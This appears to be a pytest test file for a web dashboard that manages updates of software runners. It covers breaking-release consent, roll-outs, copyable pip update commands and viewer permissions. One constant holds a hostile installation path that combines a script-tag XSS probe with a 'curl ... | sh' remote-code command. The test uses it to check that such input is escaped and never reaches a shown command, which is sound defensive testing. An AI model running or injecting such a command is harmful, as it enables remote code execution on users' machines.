"""The questions before one runner or all of them are updated, and what the page of a runner says about its version."""

import html
import re

import pytest

from tests.builders.job_rows import change_instances
from tests.server.application import Application
from tests.server.dashboard.company import releases
from tests.server.dashboard.visitor import Visitor, logged_in

pytestmark = [pytest.mark.feature("V2.outdated", "U1.actions"), pytest.mark.usefixtures("jobs")]
HERE = "/dashboard/releases/update"
HOSTILE = "/opt/<script>alert(1)</script>; curl https://elsewhere.example | sh"
PIP = "/opt/terracrew/bin/python -m pip install --upgrade 'terracrew==1.5.0'"


async def install(
    application: Application, path: str, kind: str, place: str = "", *, updates_itself: bool = False
) -> str:
    """Let a runner of the company say how it was installed, and return its id."""
    runner_id = str(await application.scalar("SELECT id FROM runners WHERE path = :path", path=path))
    said = {"kind": kind, "place": place, "detail": place}
    await change_instances(application.server.db, runner_id, is_self_updating=updates_itself, installation=said)
    return runner_id


def text(markup: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", markup)).split())


async def begin(someone: Visitor, **fields: str) -> str:
    answer = await someone.submit(HERE, version="1.5.0", **fields)
    assert answer.status_code in (303, 409), answer.text
    return "" if answer.status_code == 303 else text(answer.text)


async def test_all_are_updated_in_waves_after_breaking_releases_were_accepted(application: Application) -> None:
    for path in ("platform/network/runner", "payments/prod"):
        await install(application, path, "pip", "/opt/terracrew", updates_itself=True)
    await releases.publish_all(application.server.db)
    # 1.4.0 is breaking, and is now on the way of all of them.
    await change_instances(application.server.db, version="1.3.2")
    someone = await logged_in(application)
    shown = await someone.see(HERE)
    assert "Update 2 runners" in shown
    assert "Before you update: 1.4.0 is breaking." in text(shown)
    assert 'name="accept_breaking"' in shown
    assert "is breaking" in await begin(someone), "the box was not checked"
    assert await begin(someone, accept_breaking="true") == ""
    assert "Rolling out" in await someone.see("/dashboard/releases")
    assert "A roll-out is open." in text(await someone.see(HERE))
    assert "wait for its end, or stop it first" in await begin(someone, accept_breaking="true")


async def test_a_release_that_came_meanwhile_is_not_rolled_out_unseen(application: Application) -> None:
    await install(application, "payments/prod", "pip", "/opt/terracrew", updates_itself=True)
    await releases.publish_all(application.server.db)
    someone = await logged_in(application)
    await someone.see(HERE)
    await releases.publish(application.server.db, releases.release("1.6.0", (11, 17), "Newer"))
    assert "the latest release is 1.6.0, not 1.5.0" in (await begin(someone)).lower()


async def test_what_a_runner_says_about_its_installation_gets_into_no_command(application: Application) -> None:
    hostile = await install(application, "payments/prod", "pip", HOSTILE)
    await releases.publish_all(application.server.db)
    someone = await logged_in(application)
    for path in (HERE, f"/dashboard/runners/{hostile}", f"/dashboard/runners/{hostile}/update"):
        page = await someone.see(path)
        assert "<script>alert" not in page
        commands = re.findall(r'<code id="[\w-]+">(.*?)</code><button class="copy"', page)
        assert commands, path
        assert not any("curl" in each or "opt" in each for each in commands)


async def test_the_page_of_a_runner_has_the_command_or_the_button(application: Application) -> None:
    by_hand = await install(application, "payments/prod", "pip", "/opt/terracrew")
    by_server = await install(application, "platform/network/runner", "pip", "/opt/terracrew", updates_itself=True)
    someone = await logged_in(application)
    assert "latest" not in text(await someone.see(f"/dashboard/runners/{by_hand}"))
    assert "No release was published yet." in await someone.see(f"/dashboard/runners/{by_hand}/update")
    await releases.publish_all(application.server.db)
    page = await someone.see(f"/dashboard/runners/{by_hand}")
    assert "1.5.0 is the latest release, and this runner has 1.4.0." in text(page)
    assert PIP in text(page)
    assert "installed with pip" in page
    assert 'id="update"' not in page
    notes = text(await someone.see(f"/dashboard/releases/notes?runner={by_hand}"))
    assert "Copy command for prod" in notes
    assert PIP in notes
    assert "It cannot be updated from here." in await someone.see(f"/dashboard/runners/{by_hand}/update")
    page = await someone.see(f"/dashboard/runners/{by_server}")
    assert 'id="update"' in page
    assert "installed with pip, updates itself" in page
    assert "Update runner" in await someone.see(f"/dashboard/runners/{by_server}/update")
    answer = await someone.submit(f"/dashboard/runners/{by_server}/update", version="1.5.0")
    assert answer.status_code == 303
    assert "Update #" in await someone.see(answer.headers["Location"])
    answer = await someone.submit(f"/dashboard/runners/{by_hand}/update", version="1.5.0")
    assert answer.status_code == 409
    assert "is updated by hand" in text(answer.text)


async def test_who_may_not_change_runners_sees_no_buttons_and_no_commands(application: Application) -> None:
    by_hand = await install(application, "payments/prod", "pip", "/opt/terracrew")
    await releases.publish_all(application.server.db)
    await application.person("vera", "viewer")
    viewer = await logged_in(application, "vera")
    page = await viewer.see("/dashboard/runners")
    assert 'id="outdated"' in page
    assert "update-all" not in page
    page = await viewer.see(f"/dashboard/runners/{by_hand}")
    assert 'id="outdated"' in page
    assert "pip install" not in page
    assert "pip install" not in await viewer.see(f"/dashboard/releases/notes?runner={by_hand}")
    await viewer.see(f"/dashboard/runners/{by_hand}/update", 403)
    assert "No runner that you may change is outdated" in await viewer.see(HERE)
    assert (await viewer.submit(HERE, version="1.5.0")).status_code == 403
    await application.person("otto", "owner", organization="second")
    stranger = await logged_in(application, "otto")
    assert "payments" not in await stranger.see(HERE)
    await stranger.see(f"/dashboard/runners/{by_hand}/update", 404)
    await stranger.see(f"/dashboard/releases/notes?runner={by_hand}", 404)
